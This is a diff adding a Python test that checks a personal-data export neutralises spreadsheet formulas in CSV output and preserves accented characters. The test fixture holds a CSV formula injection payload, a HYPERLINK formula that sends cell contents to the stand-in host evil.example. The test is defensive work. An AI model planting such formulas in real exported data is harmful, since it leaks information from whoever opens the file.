@@ -1,5 +1,6 @@
 from __future__ import annotations
 
+import csv
 import io
 import json
 import zipfile
@@ -150,6 +151,27 @@ def test_access_produces_a_zip_with_json_and_csv_per_table(person):
     assert data["crm.Contact"][0]["email"] == "marit@example.org"
     assert "Order Completed" in archive.read("profiles.Event.csv").decode()
     assert "admin.LogEntry" not in data  # the staff's log is not the person's data
+
+
+def test_access_csv_neutralises_formulas_and_keeps_accents(person):
+    Contact.objects.create(
+        first_name='=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+        last_name="Oostérhuis",
+        email="marit@example.org",
+        profile=person,
+    )
+    request = run("access", email="marit@example.org")
+    with request.result_file.open("rb") as handle:
+        archive = zipfile.ZipFile(io.BytesIO(handle.read()))
+
+    data = archive.read("crm.Contact.csv")
+    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads the accents as UTF-8
+    (row,) = csv.DictReader(io.StringIO(data.decode("utf-8-sig")))
+    assert row["first_name"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    assert row["last_name"] == "Oostérhuis"
+    # the machine-readable copy keeps the value as it is stored
+    contact = json.loads(archive.read("data.json"))["data"]["crm.Contact"][0]
+    assert contact["first_name"].startswith("=HYPERLINK")
 
 
 def test_rectification_corrects_profile_and_contact(person):
